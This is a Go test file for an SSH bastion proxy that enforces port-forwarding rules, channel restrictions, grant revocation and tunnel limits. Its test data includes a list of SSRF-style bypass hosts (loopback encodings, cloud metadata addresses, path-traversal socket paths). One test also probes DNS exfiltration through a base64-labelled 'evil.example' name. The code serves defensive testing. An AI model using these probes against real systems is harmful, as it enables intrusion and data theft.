package sshproxy

import (
	"context"
	"errors"
	"io"
	"net"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	gossh "golang.org/x/crypto/ssh"

	"github.com/drawbolt/drawbolt/broker/access"
	"github.com/drawbolt/drawbolt/broker/bastion"
	"github.com/drawbolt/drawbolt/broker/store"
	"github.com/drawbolt/drawbolt/recorder"
	"github.com/drawbolt/drawbolt/recorder/audit"
)

// A puppet is a target that does what the test says. It echoes what comes through
// tunnels, listens wherever it is asked to, and runs no command to its end.
type puppet struct {
	conns chan *gossh.ServerConn
	asked chan directTCPIP
	serve func(gossh.Channel) // one tunnel
}

func (h *house) puppet(name string) *puppet {
	h.t.Helper()
	p := &puppet{conns: make(chan *gossh.ServerConn, 100), asked: make(chan directTCPIP, 10000), serve: func(ch gossh.Channel) { io.Copy(ch, ch) }}
	key := newSigner(h.t)
	config := &gossh.ServerConfig{PublicKeyCallback: func(gossh.ConnMetadata, gossh.PublicKey) (*gossh.Permissions, error) { return nil, nil }}
	config.AddHostKey(key)
	ln := must(net.Listen("tcp", "127.0.0.1:0"))(h.t)
	h.t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			nc, err := ln.Accept()
			if err != nil {
				return
			}
			go p.carry(nc, config)
		}
	}()
	h.addTarget(name, ln.Addr().String(), key.PublicKey())
	return p
}

func (p *puppet) carry(nc net.Conn, config *gossh.ServerConfig) {
	conn, channels, requests, err := gossh.NewServerConn(nc, config)
	if err != nil {
		return
	}
	p.conns <- conn
	go func() {
		for req := range requests {
			req.Reply(true, gossh.Marshal(struct{ Port uint32 }{45678}))
		}
	}()
	for ch := range channels {
		if ch.ChannelType() == "direct-tcpip" {
			d, _ := parseDirectTCPIP(ch.ExtraData())
			p.asked <- d
		}
		c, reqs, err := ch.Accept()
		if err != nil {
			continue
		}
		if ch.ChannelType() == "session" {
			go func() {
				for req := range reqs {
					req.Reply(true, nil)
				}
			}()
			continue
		}
		go gossh.DiscardRequests(reqs)
		go func() { p.serve(c); c.Close() }()
	}
}

// resolving makes the server look names up in a table; what is not in it does not
// exist.
func (h *house) resolving(table func(name string) []string) (asked *atomic.Int64) {
	asked = &atomic.Int64{}
	h.server.cfg.Resolve = func(_ context.Context, name string) (list []netip.Addr, err error) {
		asked.Add(1)
		for _, a := range table(name) {
			list = append(list, netip.MustParseAddr(a))
		}
		if list == nil {
			err = &net.DNSError{Err: "no such host", Name: name, IsNotFound: true}
		}
		return list, err
	}
	return asked
}

// A refused forward looks the same whatever is there: an open port, a closed one,
// no such name. What is special must be named, however it is spelt or found.
func TestForwardRefusals(t *testing.T) {
	site := newSite(t, "tcp", "127.0.0.1:0")
	const resolve = 300 * time.Millisecond
	h := newHouse(t, withForwards("local db.internal:*", "local *:*", "local 10.0.0.0/8:*", "local 127.0.0.2:1", "local unix:/run/app/*", "remote *:8000-8100", "remote 10.0.0.0/8:*"),
		func(o *options) { o.limits.Resolve = resolve; o.limits.Refusals = 1000 })
	h.resolving(func(name string) []string {
		switch name {
		case "db.internal", "loop.example":
			return []string{"127.0.0.1", "::1"}
		case "meta.example":
			return []string{"169.254.169.254", "fd00:ec2::254"}
		case "slow.example":
			time.Sleep(resolve / 2)
			return []string{"::ffff:127.0.0.1"}
		}
		return nil
	})
	h.server.cfg.Own = func() []netip.Addr { return []netip.Addr{netip.MustParseAddr("192.0.2.77")} }
	h.puppet("db01")
	h.grant("alice", "db01", time.Hour)
	c := h.client("alice", "db01")
	var port uint32
	for _, digit := range site.port {
		port = port*10 + uint32(digit-'0')
	}
	refusal := func(kind string, payload any) (*gossh.OpenChannelError, time.Duration) {
		t.Helper()
		began := time.Now()
		_, _, err := c.OpenChannel(kind, gossh.Marshal(payload))
		refused, ok := errors.AsType[*gossh.OpenChannelError](err)
		if !ok {
			t.Fatalf("%s %+v: got %v", kind, payload, err)
		}
		return refused, time.Since(began)
	}
	want, _ := refusal("direct-tcpip", directTCPIP{"127.0.0.1", port, "127.0.0.1", 1})
	if want.Reason != gossh.Prohibited || !strings.Contains(want.Message, "DB-2406") {
		t.Errorf("got %v", want)
	}
	for _, host := range []string{
		"127.0.0.1", "127.1.2.3", "::1", "::ffff:127.0.0.1", "0.0.0.0", "::", "0.0.0.1", "localhost", "LOCALHOST", "localhost.",
		"169.254.169.254", "fe80::1", "fe80::1%eth0", "224.0.0.1", "255.255.255.255", "192.0.2.77", "::ffff:192.0.2.77",
		"100.100.100.200", "168.63.129.16", "fd00:ec2::254", "64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "2002:7f00:1::", "127.0.0.2",
		"db.internal", "loop.example", "meta.example", "slow.example", "nosuch.example", "", " ", "a b", "2130706433", "0x7f000001", "127.1", strings.Repeat("a", 300),
	} {
		for _, p := range []uint32{port, 1<<16 + port, 0} {
			got, took := refusal("direct-tcpip", directTCPIP{host, p, "127.0.0.1", 1})
			if *got != *want {
				t.Errorf("%q port %d: got %v, want %v", host, p, got, want)
			}
			if strings.HasSuffix(host, ".example") && p == port && (took < resolve || took > resolve+20*time.Second) { // the rest is what a busy machine takes
				t.Errorf("%q: the answer took %v", host, took)
			}
		}
	}
	for _, path := range []string{"/run/other", "/run/app/../other", "/run/app/x/y", "run/app/x", "", "/run/app/x\x00y", "/run/app/" + strings.Repeat("x", 200)} {
		if got, _ := refusal("direct-streamlocal@openssh.com", directStreamLocal{Path: path}); *got != *want {
			t.Errorf("%q: got %v", path, got)
		}
	}
	for _, bind := range []tcpipForward{{"", 8080}, {"*", 8080}, {"0.0.0.0", 8080}, {"::", 8080}, {"localhost", 8080}, {"127.0.0.1", 8080}, {"127.0.0.1", 0}, {"192.0.2.1", 0}, {"192.0.2.1", 9000}, {"192.0.2.77", 8080}, {"db.internal", 8080}, {"192.0.2.1", 1 << 16}} {
		if ok, _, err := c.SendRequest("tcpip-forward", true, gossh.Marshal(bind)); ok || err != nil {
			t.Errorf("listening at %+v: %v, %v", bind, ok, err)
		}
	}
	if ok, _, _ := c.SendRequest("streamlocal-forward@openssh.com", true, gossh.Marshal(streamLocalForward{"/run/app/x"})); ok {
		t.Error("listening at a socket that only a local rule names")
	}
	if site.came.Load() != 0 || len(h.sessions()) != 0 {
		t.Errorf("%d came, %d sessions", site.came.Load(), len(h.sessions()))
	}
	h.wantRefusal(`forward local to "meta.example" port ` + site.port + " at [169.254.169.254 fd00:ec2::254]: the role does not allow this forward")
}

// A name is looked up once, and the target is told the address that was checked.
func TestForwardIsResolvedOnce(t *testing.T) {
	h := newHouse(t, withForwards("local db.internal:5432", "local 192.0.2.0/24:80"), func(o *options) { o.limits.Resolve = time.Second })
	answers := []string{"192.0.2.10"}
	asked := h.resolving(func(string) []string { return answers })
	p := h.puppet("db01")
	h.grant("alice", "db01", time.Hour)
	c := h.client("alice", "db01")
	conn := must(c.Dial("tcp", "DB.internal.:5432"))(t)
	conn.Close()
	if got := <-p.asked; got.Host != "192.0.2.10" || got.Port != 5432 {
		t.Errorf("the target was asked for %+v", got)
	}
	conn = must(c.Dial("tcp", "anything.example:80"))(t)
	conn.Close()
	if got := <-p.asked; got.Host != "192.0.2.10" || asked.Load() != 2 {
		t.Errorf("the target was asked for %+v, and the resolver %d times", got, asked.Load())
	}
	answers = []string{"127.0.0.1", "169.254.169.254"}
	if _, err := c.Dial("tcp", "db.internal:5432"); err == nil {
		t.Error("the name was rebound")
	}
	answers = []string{"127.0.0.1", "192.0.2.11"}
	must(c.Dial("tcp", "db.internal:5432"))(t).Close()
	if got := <-p.asked; got.Host != "192.0.2.11" {
		t.Errorf("the target was asked for %+v", got)
	}
	// What no answer could allow is not looked up: a name can carry data away.
	before := asked.Load()
	if _, err := c.Dial("tcp", "c2VjcmV0.evil.example:53"); err == nil || asked.Load() != before {
		t.Errorf("the resolver was asked %d times", asked.Load()-before)
	}
}

// What a target opens passes only where it was asked for, and only while it is
// allowed.
func TestUnaskedChannels(t *testing.T) {
	h := newHouse(t, withForwards("remote 127.0.0.1:*", "remote unix:/run/s", "local 192.0.2.1:80"),
		func(o *options) { o.limits.Refusals = 1000; o.rules.Agent, o.rules.X11 = true, true })
	p := h.puppet("db01")
	h.grant("alice", "db01", time.Hour)
	kinds := []string{"forwarded-tcpip", "forwarded-streamlocal@openssh.com", "x11", "auth-agent@openssh.com", "session", "direct-tcpip", "made-up"}
	payload := func(kind string, port uint32) []byte {
		switch kind {
		case "forwarded-tcpip", "direct-tcpip":
			return gossh.Marshal(directTCPIP{"127.0.0.1", port, "192.0.2.9", 9})
		case "forwarded-streamlocal@openssh.com":
			return gossh.Marshal(forwardedStreamLocal{"/run/s", ""})
		case "x11":
			return gossh.Marshal(x11Opening{"127.0.0.1", 9})
		}
		return nil
	}
	c := h.client("alice", "db01")
	var got atomic.Int64
	taken := make(chan []byte, 10)
	for _, kind := range kinds {
		opened := c.HandleChannelOpen(kind)
		if opened == nil {
			continue // x/crypto's own
		}
		go func() {
			for nc := range opened {
				got.Add(1)
				taken <- nc.ExtraData()
				if ch, reqs, err := nc.Accept(); err == nil {
					go gossh.DiscardRequests(reqs)
					go func() { io.Copy(ch, ch); ch.Close() }()
				}
			}
		}()
	}
	refused := func(conn gossh.Conn, where string, kinds ...string) {
		t.Helper()
		for _, kind := range kinds {
			if ch, _, err := conn.OpenChannel(kind, payload(kind, 8080)); err == nil {
				ch.Close()
				t.Errorf("%s: the target opened %s", where, kind)
			}
		}
	}
	s := must(c.NewSession())(t)
	check(t, s.Start("sleep 60"))
	session := <-p.conns
	refused(session, "a session that offered nothing", kinds...)
	h.wantRefusal("target's channel auth-agent@openssh.com: nobody asked the target for this channel")
	h.wantRefusal("target's channel forwarded-tcpip: what is not named is not allowed")

	must(c.Dial("tcp", "192.0.2.1:80"))(t).Close()
	tunnels := <-p.conns
	refused(tunnels, "tunnels that listen nowhere", kinds...)
	ask := func(name string, ask any) bool {
		ok, _, err := c.SendRequest(name, true, gossh.Marshal(ask))
		check(t, err)
		return ok
	}
	if !ask("tcpip-forward", tcpipForward{"localhost", 8080}) || ask("tcpip-forward", tcpipForward{"localhost", 8080}) {
		t.Error("the target is to listen once")
	}
	if ok, reply, _ := c.SendRequest("tcpip-forward", true, gossh.Marshal(tcpipForward{"127.0.0.1", 0})); !ok || string(reply) != string(gossh.Marshal(struct{ Port uint32 }{45678})) {
		t.Errorf("any port: %v, %x", ok, reply)
	}
	refused(tunnels, "tunnels", kinds[1:]...)
	refused(session, "the session", kinds...)
	if n := got.Load(); n != 0 {
		t.Fatalf("%d channels came to the user", n)
	}
	through := func(port uint32, host string) {
		t.Helper()
		ch, reqs, err := tunnels.OpenChannel("forwarded-tcpip", payload("forwarded-tcpip", port))
		check(t, err)
		go gossh.DiscardRequests(reqs)
		d := must(parseDirectTCPIP(<-taken))(t)
		if d.Host != host || d.Port != port || d.Origin != "192.0.2.9" {
			t.Errorf("the user was told %+v", d)
		}
		io.WriteString(ch, "back and forth")
		ch.CloseWrite()
		if b, err := io.ReadAll(ch); string(b) != "back and forth" || err != nil {
			t.Errorf("got %q, %v", b, err)
		}
		ch.Close()
	}
	through(8080, "localhost")
	through(45678, "127.0.0.1")
	if ask("cancel-tcpip-forward", tcpipForward{"127.0.0.1", 8080}) || !ask("cancel-tcpip-forward", tcpipForward{"localhost", 8080}) || ask("cancel-tcpip-forward", tcpipForward{"localhost", 8080}) {
		t.Error("one is to be cancelled, once, by its name")
	}
	refused(tunnels, "tunnels after the end of listening", kinds...)
	if got.Load() != 2 {
		t.Errorf("%d channels came to the user", got.Load())
	}
}

// An agent is offered by one session, and by none beside or after it: not on the
// same connection of the user, and not by the target on the one that it had.
func TestAgentOfOneSession(t *testing.T) {
	h := newHouse(t, func(o *options) { o.rules.Agent = true })
	p := h.puppet("db01")
	h.grant("alice", "db01", time.Hour)
	c := h.client("alice", "db01")
	const kind = "auth-agent@openssh.com"
	opened := c.HandleChannelOpen(kind)
	var reached atomic.Int64
	go func() {
		for nc := range opened {
			reached.Add(1)
			if ch, reqs, err := nc.Accept(); err == nil {
				go gossh.DiscardRequests(reqs)
				go func() { io.Copy(ch, ch); ch.Close() }()
			}
		}
	}()
	asks := must(c.NewSession())(t)
	if ok, err := asks.SendRequest("auth-agent-req@openssh.com", true, nil); !ok {
		t.Fatalf("refused: %v", err)
	}
	check(t, asks.Start("sleep 60"))
	lent := <-p.conns
	ch, reqs, err := lent.OpenChannel(kind, nil)
	check(t, err)
	go gossh.DiscardRequests(reqs)
	io.WriteString(ch, "a question")
	answer := make([]byte, len("a question"))
	if _, err := io.ReadFull(ch, answer); err != nil || string(answer) != "a question" {
		t.Fatalf("got %q, %v", answer, err)
	}
	other := must(c.NewSession())(t) // which does not ask
	check(t, other.Start("sleep 60"))
	beside := <-p.conns
	refused := func(conn gossh.Conn, when string) {
		t.Helper()
		if ch, _, err := conn.OpenChannel(kind, nil); err == nil {
			ch.Close()
			t.Errorf("%s: the target opened %s", when, kind)
		}
	}
	refused(beside, "beside")
	h.wantRefusal("target's channel " + kind + ": nobody asked the target for this channel")
	asks.Close()
	eventually(t, "the end of the session", func() bool {
		return slices.ContainsFunc(h.sessions(), func(s access.Session) bool { return s.State == access.Closed })
	})
	if _, err := io.ReadFull(ch, answer[:1]); err == nil {
		t.Error("the agent's channel outlives its session")
	}
	refused(lent, "after its end")
	refused(beside, "beside, after the end")
	if n := reached.Load(); n != 1 {
		t.Errorf("the agent was reached %d times", n)
	}
}

// A display that is offered once is reached once.
func TestSingleDisplay(t *testing.T) {
	h := newHouse(t, func(o *options) { o.rules.X11 = true })
	p := h.puppet("db01")
	h.grant("alice", "db01", time.Hour)
	c := h.client("alice", "db01")
	opened := c.HandleChannelOpen("x11")
	go func() {
		for nc := range opened {
			if ch, reqs, err := nc.Accept(); err == nil {
				go gossh.DiscardRequests(reqs)
				go io.Copy(ch, ch)
			}
		}
	}()
	s := must(c.NewSession())(t)
	for name, request := range map[string]x11Request{
		"cookie": {true, "MIT-MAGIC-COOKIE-1", "zz", 0}, "odd cookie": {true, "MIT-MAGIC-COOKIE-1", "abc", 0}, "protocol": {true, "a b", "ab", 0}, "screen": {true, "MIT-MAGIC-COOKIE-1", "ab", 1 << 20},
		"long cookie": {true, "MIT-MAGIC-COOKIE-1", strings.Repeat("ab", 1000), 0},
	} {
		if ok, _ := s.SendRequest("x11-req", true, gossh.Marshal(request)); ok {
			t.Errorf("a malformed %s was taken", name)
		}
	}
	if ok, _ := s.SendRequest("x11-req", true, gossh.Marshal(x11Request{true, "MIT-MAGIC-COOKIE-1", "abcdef", 0})); !ok {
		t.Fatal("refused")
	}
	check(t, s.Start("sleep 60"))
	target := <-p.conns
	payload := gossh.Marshal(x11Opening{"127.0.0.1", 9})
	ch, reqs, err := target.OpenChannel("x11", payload)
	check(t, err)
	go gossh.DiscardRequests(reqs)
	ch.Close()
	if _, _, err := target.OpenChannel("x11", payload); err == nil {
		t.Error("a second time")
	}
	h.wantRefusal("target's channel x11: nobody asked")
}

// setRules changes the role under which the grants of the test were given.
func (h *house) setRules(rules access.SessionRules) {
	h.t.Helper()
	ctx := context.Background()
	check(h.t, h.db.Change(ctx, func(tx *store.Tx) (audit.Event, error) {
		e := audit.Event{Actor: "system", ActorName: "system", Action: "role.set", Object: "engineers", Outcome: audit.Done}
		r, err := tx.Role(ctx, "engineers")
		if err != nil {
			return e, err
		}
		r.Rules[0].Session = rules
		return e, tx.SaveRole(ctx, &r)
	}))
}

// A tunnel ends when its rule does, while others go on.
func TestTunnelOutlivesNoRule(t *testing.T) {
	h := newHouse(t, withForwards("local 192.0.2.1:80", "local 192.0.2.2:80", "remote 127.0.0.1:8080"))
	p := h.puppet("db01")
	h.grant("alice", "db01", time.Hour)
	c := h.client("alice", "db01")
	one, two := must(c.Dial("tcp", "192.0.2.1:80"))(t), must(c.Dial("tcp", "192.0.2.2:80"))(t)
	if ok, _, _ := c.SendRequest("tcpip-forward", true, gossh.Marshal(tcpipForward{"127.0.0.1", 8080})); !ok {
		t.Error("the target does not listen")
	}
	echo := func(conn net.Conn) bool {
		io.WriteString(conn, "x")
		_, err := io.ReadFull(conn, make([]byte, 1))
		return err == nil
	}
	if !echo(one) || !echo(two) {
		t.Fatal("no echo")
	}
	h.setRules(access.SessionRules{Recording: "strict", Forwards: []string{"local 192.0.2.2:80"}})
	eventually(t, "the rules to change", func() bool { return !echo(one) })
	if !echo(two) {
		t.Error("the other tunnel has ended too")
	}
	if _, err := c.Dial("tcp", "192.0.2.1:80"); err == nil {
		t.Error("a tunnel without a rule")
	}
	target := <-p.conns
	if _, _, err := target.OpenChannel("forwarded-tcpip", gossh.Marshal(directTCPIP{"127.0.0.1", 8080, "192.0.2.9", 9})); err == nil {
		t.Error("the target reaches the user without a rule")
	}
	two.Close()
	c.Close()
	wantMarks(t, h.marks(t, "forward"), "connection 1 ended: cut, no longer allowed", "connection 2 ended: ")
}

// No byte passes later than a second after the end of the grant, in either
// direction, whatever ends it; the tunnel's end is on record.
func TestTunnelOutlivesNoGrant(t *testing.T) {
	for name, test := range map[string]struct {
		grant time.Duration
		end   func(h *house, id string)
		said  string
	}{
		"revoked": {time.Hour, func(h *house, id string) {
			must(h.broker.Revoke(context.Background(), h.people["bob"].caller, id, "incident over"))(h.t)
		}, "cut, revoked"},
		"expired": {4 * time.Second, func(h *house, _ string) {}, "cut, expired"},
		"released": {time.Hour, func(h *house, id string) {
			must(h.broker.Release(context.Background(), h.people["alice"].caller, id))(h.t)
		}, "cut, released"},
	} {
		t.Run(name, func(t *testing.T) {
			h := newHouse(t, withForwards("local 192.0.2.1:80"))
			p := h.puppet("db01")
			var up, down atomic.Int64 // when the last byte arrived, in unix nanoseconds
			p.serve = func(ch gossh.Channel) {
				go func() {
					for {
						if _, err := io.WriteString(ch, "tick"); err != nil {
							return
						}
						time.Sleep(5 * time.Millisecond)
					}
				}()
				arrivals(ch, &up)
			}
			granted := h.grant("alice", "db01", test.grant)
			began := time.Now()
			c := h.client("alice", "db01")
			conn := must(c.Dial("tcp", "192.0.2.1:80"))(t)
			go func() {
				for {
					if _, err := io.WriteString(conn, "tock"); err != nil {
						return
					}
					time.Sleep(5 * time.Millisecond)
				}
			}()
			ended := make(chan struct{})
			go func() { arrivals(conn, &down); close(ended) }()
			eventually(t, "bytes", func() bool { return up.Load() != 0 && down.Load() != 0 })
			over := began.Add(test.grant)
			if test.grant == time.Hour {
				test.end(h, granted.Request.ID)
				over = time.Now()
			}
			select {
			case <-ended:
			case <-time.After(patience):
				t.Fatal("the tunnel goes on")
			}
			time.Sleep(200 * time.Millisecond)
			for way, last := range map[string]*atomic.Int64{"to the target": &up, "to the user": &down} {
				if late := time.Unix(0, last.Load()).Sub(over); late > time.Second {
					t.Errorf("a byte passed %s %v after the end", way, late)
				}
			}
			if _, err := c.Dial("tcp", "192.0.2.1:80"); err == nil {
				t.Error("another tunnel was opened")
			}
			c.Close()
			wantMarks(t, h.marks(t, "forward"), "connection 1 ended: "+test.said)
		})
	}
}

// arrivals notes when bytes arrive, until the end.
func arrivals(r io.Reader, last *atomic.Int64) {
	buf := make([]byte, 64)
	for {
		if _, err := r.Read(buf); err != nil {
			return
		}
		last.Store(time.Now().UnixNano())
	}
}

// Thousands of refused tunnels end the connection, and do not flood the log.
func TestRefusedTunnelsFlood(t *testing.T) {
	h := newHouse(t, withForwards("local 192.0.2.1:80"), func(o *options) { o.limits.Refusals = 20 })
	h.puppet("db01")
	h.grant("alice", "db01", time.Hour)
	c := h.client("alice", "db01")
	tries := 0
	for range 5000 {
		tries++
		if _, err := c.Dial("tcp", "192.0.2.3:80"); err != nil {
			if _, refused := errors.AsType[*gossh.OpenChannelError](err); !refused {
				break
			}
		}
	}
	if n := len(h.refusals()); tries > 100 || n > 21 || n < 20 {
		t.Errorf("%d tries, %d refusals in the log", tries, n)
	}
	// And those of listeners.
	c = h.client("alice", "db01")
	for tries = 0; tries < 5000; tries++ {
		if _, _, err := c.SendRequest("tcpip-forward", true, gossh.Marshal(tcpipForward{"127.0.0.1", 80})); err != nil {
			break
		}
	}
	if tries > 100 {
		t.Errorf("%d tries", tries)
	}
}

func TestTunnelLimits(t *testing.T) {
	h := newHouse(t, withForwards("local 192.0.2.1:80", "remote 127.0.0.1:*"), func(o *options) { o.limits.Tunnels = 5; o.limits.Listeners = 3 })
	h.puppet("db01")
	h.grant("alice", "db01", time.Hour)
	c := h.client("alice", "db01")
	var open []net.Conn
	for range 5 {
		open = append(open, must(c.Dial("tcp", "192.0.2.1:80"))(t))
	}
	if _, err := c.Dial("tcp", "192.0.2.1:80"); err == nil || !strings.Contains(err.Error(), "DB-2411") {
		t.Errorf("got %v", err)
	}
	s := must(c.NewSession())(t) // sessions have a limit of their own
	check(t, s.Start("sleep 60"))
	open[0].Close()
	eventually(t, "a place", func() bool {
		conn, err := c.Dial("tcp", "192.0.2.1:80")
		if err == nil {
			conn.Close()
		}
		return err == nil
	})
	for port := uint32(8001); port <= 8004; port++ {
		if ok, _, _ := c.SendRequest("tcpip-forward", true, gossh.Marshal(tcpipForward{"127.0.0.1", port})); ok != (port < 8004) {
			t.Errorf("port %d: %v", port, ok)
		}
	}
}

// A user who does not read makes the target wait, and nobody else: what is held
// for them is bounded, and is freed at the end of the grant.
func TestTunnelThatIsNotRead(t *testing.T) {
	h := newHouse(t, withForwards("local 192.0.2.1:*"))
	p := h.puppet("db01")
	var sent atomic.Int64
	p.serve = func(ch gossh.Channel) {
		if d := <-p.asked; d.Port == 80 {
			io.Copy(ch, ch)
			return
		}
		chunk := make([]byte, 32<<10)
		for {
			n, err := ch.Write(chunk)
			sent.Add(int64(n))
			if err != nil {
				return
			}
		}
	}
	granted := h.grant("alice", "db01", time.Hour)
	c := h.client("alice", "db01")
	flood := must(c.Dial("tcp", "192.0.2.1:1"))(t)
	defer flood.Close()
	eventually(t, "the flood to stand", func() bool {
		before := sent.Load()
		time.Sleep(300 * time.Millisecond)
		return before > 0 && sent.Load() == before
	})
	const window = 2 << 20 // of x/crypto, at the user and at the bastion
	if n := sent.Load(); n > 2*window+256<<10 {
		t.Errorf("%d bytes are on their way", n)
	}
	other := must(c.Dial("tcp", "192.0.2.1:80"))(t)
	io.WriteString(other, "still")
	if b := make([]byte, 5); must(io.ReadFull(other, b))(t) != 5 || string(b) != "still" {
		t.Errorf("got %q", b)
	}
	must(h.broker.Revoke(context.Background(), h.people["bob"].caller, granted.Request.ID, "over"))(t)
	marks := h.marks(t, "forward")
	wantMarks(t, marks, "connection 1 ended: cut, revoked", "connection 2 ended: cut, revoked")
	n, _ := io.Copy(io.Discard, flood)
	if n > window {
		t.Errorf("%d bytes were read after the end", n)
	}
	c.Close()
	eventually(t, "nothing left", func() bool { return h.server.cfg.Bastion.Live() == 0 })
}

// Faults end one session of tunnels, or one connection, and nobody else's.
func TestTunnelFaults(t *testing.T) {
	rec := &capturing{}
	var trip atomic.Bool
	h := newHouse(t, withForwards("local 192.0.2.1:80", "local *:80"), func(o *options) {
		o.bastion = func(c *bastion.Config) {
			rec.Recorder, c.Recorder = c.Recorder, rec
			c.Broker = tripping{c.Broker, func(string) {
				if trip.CompareAndSwap(true, false) {
					panic("test")
				}
			}}
		}
	})
	h.puppet("db01")
	h.grant("alice", "db01", time.Hour)
	echo := func(c *gossh.Client) error {
		conn, err := c.Dial("tcp", "192.0.2.1:80")
		if err != nil {
			return err
		}
		defer conn.Close()
		io.WriteString(conn, "x")
		_, err = io.ReadFull(conn, make([]byte, 1))
		return err
	}
	other, c := h.client("alice", "db01"), h.client("alice", "db01")
	check(t, echo(other))
	trip.Store(true)
	if echo(c) == nil {
		t.Error("the session was opened")
	}
	check(t, echo(c)) // the next is another session
	check(t, echo(other))

	h.server.cfg.Resolve = func(context.Context, string) ([]netip.Addr, error) { panic("test") }
	if _, err := c.Dial("tcp", "panics.example:80"); err == nil {
		t.Error("opened")
	}
	check(t, echo(other))

	// A recording that fails ends the tunnels that are open.
	c = h.client("alice", "db01")
	conn := must(c.Dial("tcp", "192.0.2.1:80"))(t)
	rec.last().Close(t.Context(), recorder.End{Reason: "broken by the test"})
	io.WriteString(conn, "x")
	if n, err := conn.Read(make([]byte, 1)); n != 0 || err == nil {
		t.Error("a byte passed without a recording")
	}
	check(t, echo(other))
	rec.failWith(recorder.ErrNoSpace)
	c = h.client("alice", "db01")
	if err := echo(c); err == nil || !strings.Contains(err.Error(), "cannot be recorded") {
		t.Errorf("got %v", err)
	}
}

// A session of tunnels that nothing passes through ends; the next tunnel begins
// another. Keep-alives are no use.
func TestIdleTunnels(t *testing.T) {
	h := newHouse(t, withForwards("local 192.0.2.1:80"), func(o *options) { o.bastion = func(c *bastion.Config) { c.Idle = 2 * time.Second } })
	h.puppet("db01")
	h.grant("alice", "db01", time.Hour)
	c := h.client("alice", "db01")
	for n := range 2 {
		conn := must(c.Dial("tcp", "192.0.2.1:80"))(t)
		io.WriteString(conn, "x")
		must(io.ReadFull(conn, make([]byte, 1)))(t)
		over := make(chan struct{})
		go func() { conn.Read(make([]byte, 1)); close(over) }()
		for open := true; open; {
			select {
			case <-over:
				open = false
			case <-time.After(50 * time.Millisecond):
				c.SendRequest("keepalive@openssh.com", true, nil)
			}
		}
		h.closed(n + 1)
	}
	for _, s := range h.closed(2) {
		if s.EndReason != "idle" || s.Kind != "forward" {
			t.Errorf("got %+v", s)
		}
	}
}

// The target goes away: its tunnels end, and the user is told at the next.
func TestTunnelsWithoutTarget(t *testing.T) {
	h := newHouse(t, withForwards("local 192.0.2.1:80"))
	p := h.puppet("db01")
	h.grant("alice", "db01", time.Hour)
	c := h.client("alice", "db01")
	conn := must(c.Dial("tcp", "192.0.2.1:80"))(t)
	(<-p.conns).Close()
	if _, err := conn.Read(make([]byte, 1)); err == nil {
		t.Error("the tunnel goes on")
	}
	h.closed(1)
	must(c.Dial("tcp", "192.0.2.1:80"))(t).Close()
	c.Close()
	list := h.closed(2)
	if list[1].EndReason != "failed" || list[0].EndReason != "aborted" {
		t.Errorf("got %+v", list)
	}
}

// Many tunnels of many connections come and go at once, and nothing is left.
func TestTunnelsComeAndGo(t *testing.T) {
	h := newHouse(t, withForwards("local 192.0.2.1:80"))
	h.puppet("db01")
	h.grant("alice", "db01", time.Hour)
	var wg sync.WaitGroup
	for range 4 {
		c := h.client("alice", "db01")
		for range 8 {
			wg.Go(func() {
				for i := range 10 {
					conn, err := c.Dial("tcp", "192.0.2.1:80")
					if err != nil {
						t.Error(err)
						return
					}
					conn.Write(make([]byte, 1+i*1000))
					if i%2 == 0 {
						io.ReadFull(conn, make([]byte, 1+i*1000))
					}
					conn.Close()
				}
			})
		}
	}
	wg.Wait()
	began := time.Now()
	h.stop()
	if took := time.Since(began); took > 20*time.Second {
		t.Errorf("the stop took %v", took)
	}
	for _, s := range h.closed(4) {
		if s.Recording.SHA256 == "" {
			t.Errorf("got %+v", s)
		}
	}
}
